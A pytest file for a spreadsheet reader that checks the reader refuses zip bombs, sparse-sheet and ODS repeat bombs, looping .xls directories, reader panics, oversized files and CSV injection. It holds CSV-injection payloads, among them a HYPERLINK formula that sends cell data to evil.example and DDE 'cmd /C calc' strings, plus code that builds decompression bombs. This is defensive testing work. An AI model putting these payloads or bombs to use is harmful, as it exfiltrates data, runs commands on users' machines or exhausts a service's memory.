"""Hostile and broken spreadsheets: zip bombs, sparse-sheet bombs, reader panics, oversized files, CSV injection.

A bomb that gets past the checks makes python-calamine abort the whole process (a failed allocation is not an
exception), so each bomb is read in a child process with a bounded address space: a regression shows as this
test failing, not as the test run dying. Every refusal is one line, an InputError naming the file.
"""

from __future__ import annotations

import csv
import io
import struct
import subprocess
import sys
import textwrap
import zipfile
import zlib
from pathlib import Path

import pytest

from kpi6.models.errors import InputError
from kpi6.tasks.adapters.spreadsheets import read_table

HEADER = ["Timestamp", "Q1"]
SHEET = "xl/worksheets/sheet1.xml"
GIB = 1 << 30
MB = 1 << 20
MAX_FILE_BYTES = 100 * MB  # tasks/adapters/spreadsheets.py's bounds, spelt out so that the tests read without them
MAX_ROWS = 1_048_576

CHILD = textwrap.dedent("""
    import resource, sys
    from pathlib import Path
    limit = int(sys.argv[2])
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
    from kpi6.models.errors import InputError
    from kpi6.tasks.adapters.spreadsheets import read_table
    try:
        table = read_table(Path(sys.argv[1]))
    except InputError as exc:
        print("InputError:", exc)
    else:
        print("read", len(table.rows), "rows", len(table.headers), "columns")
""")


def read_in_child(path: Path, *, address_space: int = 3 * GIB) -> tuple[int, str, str]:
    """read_table(path) in a fresh interpreter with at most `address_space` bytes of memory."""
    done = subprocess.run(
        [sys.executable, "-c", CHILD, str(path), str(address_space)],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    return done.returncode, done.stdout, done.stderr


def assert_refused(path: Path, *words: str) -> str:
    rc, out, err = read_in_child(path)
    assert rc == 0, f"the reader died (exit {rc}): {err[-2000:]}"
    assert out.startswith("InputError: "), out + err[-2000:]
    assert len(out.strip().splitlines()) == 1, out
    assert path.name in out, out
    assert "Traceback" not in err and "panicked" not in err, err[-2000:]
    for word in words:
        assert word in out, out
    return out


def workbook_bytes(rows: list[list[object]] | None = None) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    for row in rows or [HEADER, ["2024-02-15 10:00", 5]]:
        book.active.append(row)
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def rewrite(data: bytes, changes: dict[str, object], path: Path) -> Path:
    """The workbook `data` with some entries replaced (a str/bytes, or a function of the old text) or added."""
    old = zipfile.ZipFile(io.BytesIO(data))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in old.infolist():
            content: object = old.read(info.filename)
            change = changes.pop(info.filename, None)
            if callable(change):
                content = change(content.decode())  # type: ignore[union-attr]
            elif change is not None:
                content = change
            out.writestr(info.filename, content)  # type: ignore[arg-type]
        for name, content in changes.items():
            out.writestr(name, content)  # type: ignore[arg-type]
    return path


def with_cells(path: Path, cells_xml: str, *, dimension: str | None = None) -> Path:
    """A real workbook with `cells_xml` added at the end of its sheet data."""

    def change(xml: str) -> str:
        xml = xml.replace("</sheetData>", cells_xml + "</sheetData>")
        return xml.replace('<dimension ref="A1:B2"/>', f'<dimension ref="{dimension}"/>') if dimension else xml

    return rewrite(workbook_bytes(), {SHEET: change}, path)


# --- what must still read ---------------------------------------------------------------------------


def test_a_real_xlsx_from_openpyxl_still_reads(tmp_path):
    from openpyxl import Workbook
    from openpyxl.formatting.rule import CellIsRule
    from openpyxl.styles import PatternFill

    book = Workbook()
    sheet = book.active
    sheet.append(["Timestamp", "ชื่อ อปท.", "ข้อ 1", "ความคิดเห็น"])
    for i in range(300):
        sheet.append([f"15/2/2024 10:{i % 60:02d}:00", f"อบต.{i}", 1 + i % 5, "ดีมาก" if i == 7 else None])
    sheet.merge_cells("F1:G2")  # merged cells, column widths and conditional formatting: <c...> that are not cells
    sheet.column_dimensions["B"].width = 30
    sheet.conditional_formatting.add(
        "C2:C301", CellIsRule(operator="lessThan", formula=["2"], fill=PatternFill(bgColor="FFC7CE"))
    )
    book.create_sheet("อื่น").append(["ไม่อ่าน"])
    book.save(tmp_path / "real.xlsx")
    table = read_table(tmp_path / "real.xlsx")
    assert table.headers == ["Timestamp", "ชื่อ อปท.", "ข้อ 1", "ความคิดเห็น"]
    assert len(table.rows) == 300 and table.rows[7][3] == "ดีมาก" and table.rows[0][2] == 1


def test_a_workbook_with_prefixed_elements_and_cells_without_references_still_reads(tmp_path):
    """SpreadsheetML written with a namespace prefix (the Open XML SDK's x:) and cells without r attributes."""

    def prefixed(xml: str) -> str:
        head, _, rest = xml.partition("<sheetData>")
        data = (
            '<x:sheetData xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            '<x:row><x:c t="inlineStr"><x:is><x:t>Timestamp</x:t></x:is></x:c>'
            '<x:c t="inlineStr"><x:is><x:t>Q1</x:t></x:is></x:c></x:row>'
            '<!-- a comment --><x:row><x:c t="inlineStr"><x:is><x:t>2024-02-15 10:00</x:t></x:is></x:c>'
            "<x:c><x:v>4</x:v></x:c></x:row></x:sheetData>"
        )
        return head + data + rest.partition("</sheetData>")[2]

    path = rewrite(workbook_bytes(), {SHEET: prefixed}, tmp_path / "sdk.xlsx")
    table = read_table(path)
    assert table.headers == HEADER and table.rows == [["2024-02-15 10:00", 4.0]]


def test_an_ods_file_still_reads(tmp_path):
    path = tmp_path / "s.ods"
    write_ods(
        path,
        '<table:table-row><table:table-cell office:value-type="string"><text:p>Timestamp</text:p>'
        '</table:table-cell><table:table-cell office:value-type="string"><text:p>Q1</text:p>'
        '</table:table-cell><table:table-cell table:number-columns-repeated="1022"/></table:table-row>'
        '<table:table-row><table:table-cell office:value-type="string"><text:p>2024-02-15 10:00</text:p>'
        '</table:table-cell><table:table-cell office:value-type="float" office:value="5"><text:p>5'
        "</text:p></table:table-cell></table:table-row>"
        '<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:style-name="ce1"/>'
        '<table:table-cell table:number-columns-repeated="1023"/></table:table-row>'  # a styled column
        '<table:table-row table:number-rows-repeated="48574"><table:table-cell '
        'table:number-columns-repeated="1024"/></table:table-row>',
    )  # LibreOffice's empty remainder
    table = read_table(path)
    assert table.headers == HEADER and table.rows == [["2024-02-15 10:00", 5.0]]


def write_ods(path: Path, rows_xml: str) -> Path:
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
        f'<office:spreadsheet><table:table table:name="Sheet1">{rows_xml}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
        z.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
        z.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)
    return path


# --- zip bombs --------------------------------------------------------------------------------------


def test_a_deflated_run_of_zeros_is_refused_by_its_compression_ratio(tmp_path):
    """300 MB of one cell's text, deflated to about 300 KB."""
    path = tmp_path / "zeros.xlsx"
    base = zipfile.ZipFile(io.BytesIO(workbook_bytes()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in base.infolist():
            if info.filename != SHEET:
                out.writestr(info.filename, base.read(info.filename))
        with out.open(SHEET, "w") as fh:
            fh.write(
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                b'<row r="1"><c r="A1" t="inlineStr"><is><t>Timestamp</t></is></c></row>'
                b'<row r="2"><c r="A2" t="inlineStr"><is><t>'
            )
            zeros = b"0" * (1 << 20)
            for _ in range(300):
                fh.write(zeros)
            fh.write(b"</t></is></c></row></sheetData></worksheet>")
    assert path.stat().st_size < 1_000_000
    assert_refused(path, "compressed", SHEET)


def test_an_entry_declaring_a_huge_uncompressed_size_is_refused(tmp_path):
    """The central directory says the sheet inflates to 2 GiB: the zip reader would let it."""
    path = rewrite(workbook_bytes(), {}, tmp_path / "declared.xlsx")
    data = bytearray(path.read_bytes())
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(SHEET)
    struct.pack_into("<I", data, info.header_offset + 22, 2 * GIB)  # local header
    at = data.find(b"PK\x01\x02")
    while at != -1:  # the central directory
        name_len = struct.unpack_from("<H", data, at + 28)[0]
        if bytes(data[at + 46 : at + 46 + name_len]) == SHEET.encode():
            struct.pack_into("<I", data, at + 24, 2 * GIB)
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))
    assert_refused(path, "uncompressed")


def test_too_many_zip_entries_are_refused(tmp_path):
    path = rewrite(workbook_bytes(), {f"xl/media/x{i}.bin": b"" for i in range(12_000)}, tmp_path / "entries.xlsx")
    assert_refused(path, "entries")


# --- sparse-sheet bombs: calamine would lay out rows x columns cells ---------------------------------


def test_a_cell_at_xfd1048576_is_refused_before_the_reader_lays_out_the_sheet(tmp_path):
    path = with_cells(
        tmp_path / "far.xlsx", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', dimension="A1:XFD1048576"
    )
    assert_refused(path, "1,048,576 rows")


def test_a_tall_narrow_sheet_over_the_cell_bound_is_refused(tmp_path):
    """Z3000000: 78 million cells, under any single-axis bound a reader might have."""
    path = with_cells(tmp_path / "tall.xlsx", '<row r="900000"><c r="Z900000"><v>1</v></c></row>')
    assert_refused(path, "cells")


@pytest.mark.parametrize("trick", ["prefix", "comment", "no-reference", "quoted-gt"])
def test_far_cells_are_found_however_the_xml_spells_them(tmp_path, trick):
    cells = {
        # another namespace prefix for the same element: the reader matches local names
        "prefix": '<row r="3"><y:c xmlns:y="urn:y" r="XFD1048576"><y:v>1</y:v></y:c></row>',
        # a comment that looks like the end of the sheet data, then the far cell
        "comment": '<!-- </sheetData> --><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        # cells without r take the next column: 20,000 of them push one past XFD
        "no-reference": '<row r="3">' + "<c/>" * 20_000 + "<c><v>1</v></c></row>",
        # a '>' inside an attribute value before the reference
        "quoted-gt": '<row r="3"><c t="n" s="0" cm=">" r="XFD1048576"><v>1</v></c></row>',
    }[trick]
    path = with_cells(tmp_path / f"{trick}.xlsx", cells)
    assert_refused(path, "too large")


def test_a_lying_shared_string_count_is_refused(tmp_path):
    """uniqueCount is a capacity hint the reader allocates before reading a single string."""

    def shared(xml: str) -> str:
        return xml.replace('<c r="B1" t="inlineStr"><is><t>Q1</t></is></c>', '<c r="B1" t="s"><v>0</v></c>')

    sst = (
        '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
        'main" count="4000000000" uniqueCount="4000000000"><si><t>Q1</t></si></sst>'
    )
    rels = (
        '<Relationship Id="rId9" Target="sharedStrings.xml" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/sharedStrings"/></Relationships>'
    )
    path = rewrite(
        workbook_bytes(),
        {
            SHEET: shared,
            "xl/sharedStrings.xml": sst,
            "xl/_rels/workbook.xml.rels": lambda xml: xml.replace("</Relationships>", rels),
        },
        tmp_path / "sst.xlsx",
    )
    assert_refused(path, "shared strings")


@pytest.mark.parametrize("spelling", ["plain", "comment", "many-rows"])
def test_an_ods_whose_repeated_cells_lay_out_millions_is_refused(tmp_path, spelling):
    comment = "<!-- </table:table-row> -->" if spelling == "comment" else ""
    repeat_rows, repeat_columns = (5000, 16384) if spelling != "many-rows" else (1_000_000, 11)
    path = write_ods(
        tmp_path / f"{spelling}.ods",
        '<table:table-row><table:table-cell office:value-type="string"><text:p>Timestamp</text:p>'
        f"</table:table-cell></table:table-row>{comment}<table:table-row "
        f'table:number-rows-repeated="{repeat_rows}"><table:table-cell '
        f'table:number-columns-repeated="{repeat_columns}" office:value-type="float" '
        'office:value="5"><text:p>5</text:p></table:table-cell></table:table-row>',
    )
    assert_refused(path, "cells")


def test_a_huge_dimension_alone_is_harmless(tmp_path):
    """<dimension ref="A1:XFD1048576"> is only a hint: the sheet's real extent is what counts."""
    path = with_cells(tmp_path / "dim.xlsx", "", dimension="A1:XFD1048576")
    rc, out, err = read_in_child(path)
    assert rc == 0 and out.startswith("read 1 rows 2 columns"), out + err[-2000:]


# --- legacy .xls: an OLE compound file of BIFF records, read whole by calamine on opening -------------------


def biff_record(kind: int, data: bytes) -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def biff_label(row: int, col: int, text: str) -> bytes:
    return biff_record(0x0204, struct.pack("<HHHHB", row, col, 0, len(text), 1) + text.encode("utf-16-le"))


def biff_number(row: int, col: int, value: float) -> bytes:
    return biff_record(0x0203, struct.pack("<HHHd", row, col, 0, value))


def write_xls(
    path: Path,
    cells: list[bytes] | None = None,
    *,
    dimensions: tuple[int, int, int, int] = (0, 2, 0, 2),
    sheets: int = 1,
    loop_directory: bool = False,
) -> Path:
    """A minimal BIFF8 workbook in a version 3 compound file (512-byte sectors, no mini stream)."""
    cells = (
        cells
        if cells is not None
        else [
            biff_label(0, 0, "Timestamp"),
            biff_label(0, 1, "Q1"),
            biff_label(1, 0, "2024-02-15 10:00"),
            biff_number(1, 1, 5),
        ]
    )
    bof = {kind: biff_record(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0, 0, 0, 0)) for kind in (5, 0x10)}
    eof = biff_record(0x000A, b"")

    def boundsheet(pos: int, k: int) -> bytes:
        name = f"Sheet{k + 1}".encode("latin-1")
        return biff_record(0x0085, struct.pack("<IBBBB", pos, 0, 0, len(name), 0) + name)

    head = bof[5] + biff_record(0x0042, struct.pack("<H", 1200))
    pos = len(head) + sum(len(boundsheet(0, k)) for k in range(sheets)) + len(eof)
    sheet = bof[0x10] + biff_record(0x0200, struct.pack("<IIHHH", *dimensions, 0)) + b"".join(cells) + eof
    stream = head + b"".join(boundsheet(pos, k) for k in range(sheets)) + eof + sheet
    stream += b"\0" * (max(4096, -(-len(stream) // 512) * 512) - len(stream))
    n = len(stream) // 512
    fat = [0xFFFFFFFD, 1 if loop_directory else 0xFFFFFFFE, *range(3, 2 + n), 0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (-len(fat) % 128)
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<9I", header, 40, 0, len(fat) // 128, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    struct.pack_into("<109I", header, 76, *range(len(fat) // 128), *[0xFFFFFFFF] * (109 - len(fat) // 128))
    assert len(fat) == 128, "one FAT sector is enough for these tests"

    def entry(name: str, kind: int, start: int, size: int, child: int = 0xFFFFFFFF) -> bytes:
        raw = (name + "\0").encode("utf-16-le")
        e = bytearray(128)
        e[: len(raw)] = raw
        struct.pack_into("<HBB3I", e, 64, len(raw), kind, 1, 0xFFFFFFFF, 0xFFFFFFFF, child)
        struct.pack_into("<II", e, 116, start, size)
        return bytes(e)

    directory = entry("Root Entry", 5, 0xFFFFFFFE, 0, child=1) + entry("Workbook", 2, 2, len(stream))
    path.write_bytes(bytes(header) + struct.pack("<128I", *fat) + directory.ljust(512, b"\0") + stream)
    return path


def test_a_legacy_xls_still_reads(tmp_path):
    table = read_table(write_xls(tmp_path / "old.xls"))
    assert table.headers == HEADER and table.rows == [["2024-02-15 10:00", 5.0]]


@pytest.mark.parametrize("bomb", ["dimensions", "far-cell", "many-listings", "looping-directory"])
def test_an_xls_bomb_is_refused_before_the_reader_opens_it(tmp_path, bomb):
    path = tmp_path / f"{bomb}.xls"
    if bomb == "dimensions":  # calamine reserves rows × columns for the declared dimensions
        write_xls(path, dimensions=(0, 0xFFFFFFF0, 0, 0xFFFF))
    elif bomb == "far-cell":  # a number at row 65536, column 65536: 4,294,967,296 cells laid out
        write_xls(path, [biff_label(0, 0, "Timestamp"), biff_number(0xFFFF, 0xFFFF, 1)])
    elif bomb == "many-listings":  # 300 sheets, each listed at the same 200 x 256 cells
        write_xls(path, [biff_label(0, 0, "Timestamp"), biff_number(199, 255, 1)], sheets=300)
    else:  # a directory chain that comes back to itself: calamine reads it until memory runs out
        write_xls(path, loop_directory=True)
    assert_refused(path, "too large" if bomb != "looping-directory" else "loops")


# --- panics and other reader failures ---------------------------------------------------------------


def test_a_reader_panic_is_one_line(tmp_path):
    """A date-formatted cell of -1e300 makes the reader's date conversion panic (pyo3's PanicException is a
    BaseException): one InputError line, and no Rust backtrace on stderr either."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(HEADER)
    book.active.append([-1e300, 5])
    book.active["A2"].number_format = "yyyy-mm-dd"
    book.save(tmp_path / "panic.xlsx")
    assert_refused(tmp_path / "panic.xlsx", "cannot be read")


class FakePanic(BaseException):
    """What pyo3 raises for a Rust panic: a BaseException, not an Exception."""


@pytest.mark.parametrize("suffix", [".xlsx", ".xls", ".ods"])
def test_any_reader_failure_becomes_one_line_but_interrupts_pass(tmp_path, monkeypatch, suffix):
    import python_calamine

    path = tmp_path / f"book{suffix}"
    path.write_bytes(workbook_bytes() if suffix == ".xlsx" else b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    if suffix == ".ods":
        write_ods(
            path,
            '<table:table-row><table:table-cell office:value-type="string"><text:p>Timestamp'
            "</text:p></table:table-cell></table:table-row>",
        )

    def fails(exc: BaseException):  # type: ignore[no-untyped-def]
        def from_filelike(*args, **kwargs):  # type: ignore[no-untyped-def]
            raise exc

        return from_filelike

    for exc in (
        FakePanic("index out of bounds: the len is 3 but the index is 7\nnote: ..."),
        MemoryError(),
        RecursionError("deep"),
        ValueError("odd"),
    ):
        monkeypatch.setattr(python_calamine.CalamineWorkbook, "from_filelike", fails(exc))
        with pytest.raises(InputError) as caught:
            read_table(path)
        assert path.name in str(caught.value) and "\n" not in str(caught.value)
    for exc in (KeyboardInterrupt(), SystemExit(3)):
        monkeypatch.setattr(python_calamine.CalamineWorkbook, "from_filelike", fails(exc))
        with pytest.raises(type(exc)):
            read_table(path)


# --- size bounds ------------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".xlsx", ".xls", ".ods", ".csv"])
def test_a_file_over_the_size_bound_is_refused_before_it_is_read(tmp_path, suffix):
    path = tmp_path / f"big{suffix}"
    with path.open("wb") as fh:
        fh.truncate(MAX_FILE_BYTES + 1)  # sparse: nothing is written to the disk
    with pytest.raises(InputError, match=rf"big\{suffix} is 100\.0 MB; the limit is 100 MB"):
        read_table(path)


def test_a_csv_with_more_rows_than_a_sheet_has_is_refused(tmp_path):
    path = tmp_path / "rows.csv"
    path.write_bytes(b"Timestamp,Q1\n" + b"a,1\n" * (MAX_ROWS + 1))
    with pytest.raises(InputError, match=r"rows\.csv: more than 1,048,576 rows"):
        read_table(path)


def test_a_csv_of_millions_of_empty_cells_is_refused(tmp_path):
    path = tmp_path / "commas.csv"
    path.write_bytes(b"Timestamp,Q1\n" + (b"," * 999 + b"\n") * 11_000)
    with pytest.raises(InputError, match=r"commas\.csv: too large: .* cells"):
        read_table(path)


def test_a_csv_cell_over_the_field_limit_names_its_row(tmp_path):
    path = tmp_path / "long.csv"
    path.write_text(
        "Timestamp,ข้อเสนอแนะ\n2024-02-15 10:00,สั้น\n2024-02-16 10:00," + "ก" * 200_000 + "\n", encoding="utf-8"
    )
    with pytest.raises(InputError) as caught:
        read_table(path)
    assert str(caught.value).startswith("long.csv: row 3: a cell is longer than 131,072 characters")


def test_an_existing_csv_field_limit_setting_is_left_alone(tmp_path):
    previous = csv.field_size_limit()
    path = tmp_path / "ok.csv"
    path.write_text("Timestamp,Q1\n2024-02-15 10:00,5\n", encoding="utf-8")
    read_table(path)
    assert csv.field_size_limit() == previous


# --- CSV injection ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"คลิก")', '\'=HYPERLINK("http://evil.example/?"&A1,"คลิก")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("อบต.ก", "อบต.ก"),
        ("a=b", "a=b"),
        ("", ""),
        (5, 5),
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_csv_safe_neutralises_a_cell_that_a_spreadsheet_would_run(value, written):
    from kpi6.tasks.adapters.spreadsheets import csv_safe

    assert csv_safe(value) == written


def test_scores_csv_neutralises_its_text_columns(tmp_path, monkeypatch):
    from types import SimpleNamespace

    from kpi6.models.provinces import registry
    from kpi6.tasks import scores as scoring

    real = registry()
    province = real.get("TH-50")
    fake = SimpleNamespace(get=lambda code: SimpleNamespace(code=province.code, name_th="=1+1", name_en="@cmd"))
    monkeypatch.setattr(scoring, "registry", lambda: fake)
    score = SimpleNamespace(
        province_code="TH-50", steps_done=5, points=10.0, late_reports=0, working_days_late=0, penalty=0.0, total=10.0
    )
    out = scoring.write_scores_csv([score], tmp_path / "scoring.csv")  # type: ignore[list-item]
    rows = list(csv.reader(out.open(encoding="utf-8-sig")))
    assert rows[1][:3] == ["TH-50", "'=1+1", "'@cmd"] and rows[1][4] == "10.00"


# --- found by an attack after the fixes above: each failed before its fix ----------------------------------------


def test_an_entry_that_lies_about_its_size_is_refused_without_inflating_it(tmp_path):
    """A sheet whose zip header declares 400 KB but whose data inflates to 1.5 GB: zipfile's read() inflated up
    to 2 GiB in one call before noticing (2.2 GB of memory); the entry is now read in chunks up to its size."""
    real = 1500 * MB
    declared = 400 * 1024
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info in zipfile.ZipFile(io.BytesIO(workbook_bytes())).infolist():
            if info.filename != SHEET:
                out.writestr(info, zipfile.ZipFile(io.BytesIO(workbook_bytes())).read(info))
        sheet = zipfile.ZipInfo(SHEET)
        sheet.compress_type = zipfile.ZIP_DEFLATED
        with out.open(sheet, "w", force_zip64=False) as fh:
            fh.write(b"<worksheet><sheetData>")
            for _ in range(real // MB):
                fh.write(b" " * MB)
    data = buf.getvalue()
    # the header declares the first 400 KB, with their CRC: read to its declared size, the entry looks whole
    head = (b"<worksheet><sheetData>" + b" " * declared)[:declared]
    crc = zipfile.ZipFile(io.BytesIO(data)).getinfo(SHEET).CRC
    for old, new in ((real + 22, declared), (crc, zlib.crc32(head))):
        assert data.count(struct.pack("<I", old)) >= 2  # the local header and the central directory
        data = data.replace(struct.pack("<I", old), struct.pack("<I", new))
    path = tmp_path / "lying.xlsx"
    path.write_bytes(data)
    probe = CHILD.replace("resource.setrlimit(resource.RLIMIT_AS, (limit, limit))", "") + textwrap.dedent("""
        # VmHWM, not ru_maxrss: Linux keeps ru_maxrss across exec, so it would count the forking test process
        hwm = next(line for line in open("/proc/self/status") if line.startswith("VmHWM:"))
        print("peak", int(hwm.split()[1]) // 1024, "MB")
    """)
    done = subprocess.run(
        [sys.executable, "-c", probe, str(path), "0"], capture_output=True, text=True, timeout=300, check=False
    )
    out, peak = done.stdout.splitlines()
    assert out.startswith("InputError: ") and "lying.xlsx" in out and "declares" in out, (
        done.stdout + done.stderr[-2000:]
    )
    assert int(peak.split()[1]) < 600, peak  # the interpreter and kpi6 take about 200 MB


def test_a_survey_row_shorter_than_its_header_reads_its_missing_cells_as_empty(tmp_path):
    from kpi6.tasks.survey import check_survey

    path = tmp_path / "short.csv"
    path.write_text(
        "Timestamp,ชื่อ อปท.,ข้อ 1,ข้อ 2,ความคิดเห็น\n"
        "15/2/2024 10:00,อบต.ก,5,4,ดี\n"
        "15/2/2024 10:05,อบต.ข,4\n"  # its last two cells left out: a rating is missing
        "15/2/2024 10:10,อบต.ค,3,5\n",  # its comment left out
        encoding="utf-8",
    )
    checked = check_survey(str(path), skip_invalid=True)
    assert (checked.summary.n, checked.rejected_rows) == (2, 1)
    assert [item.n for item in checked.summary.items] == [2, 2]
    rejected = Path(str(checked.rejected_file)).read_text(encoding="utf-8-sig")
    assert rejected.splitlines()[1].startswith("3,\"row 3, column 'ข้อ 2': no answer"), rejected


def test_the_rejected_rows_file_is_never_written_through_a_symlink(tmp_path):
    from kpi6.tasks.survey import check_survey

    victim = tmp_path / "victim.txt"
    victim.write_text("precious", encoding="utf-8")
    survey = tmp_path / "s.csv"
    rows = "".join(f"15/2/2024 10:{i:02d},{1 + i % 5}\n" for i in range(10))
    survey.write_text(f"Timestamp,ข้อ 1\n{rows}15/2/2024 11:00,มากมาย\n", encoding="utf-8")
    (tmp_path / "s.rejected.csv").symlink_to(victim)
    with pytest.raises(InputError, match="symbolic link"):
        check_survey(str(survey), skip_invalid=True)
    assert victim.read_text(encoding="utf-8") == "precious"
    (tmp_path / "s.rejected.csv").unlink()
    assert check_survey(str(survey), skip_invalid=True).rejected_rows == 1  # a plain file is written as before
    assert "มากมาย" in (tmp_path / "s.rejected.csv").read_text(encoding="utf-8-sig")


def test_a_file_name_with_escape_sequences_is_shown_escaped_on_the_terminal(tmp_path):
    from typer.testing import CliRunner

    from kpi6.cli import app

    name = tmp_path / "x\x1b[2J\x1b[31mred.csv"
    result = CliRunner().invoke(app, ["survey", "summary", str(name)])
    assert result.exit_code == 2
    assert "\x1b" not in result.stderr and "\\x1b[2J" in result.stderr, repr(result.stderr)
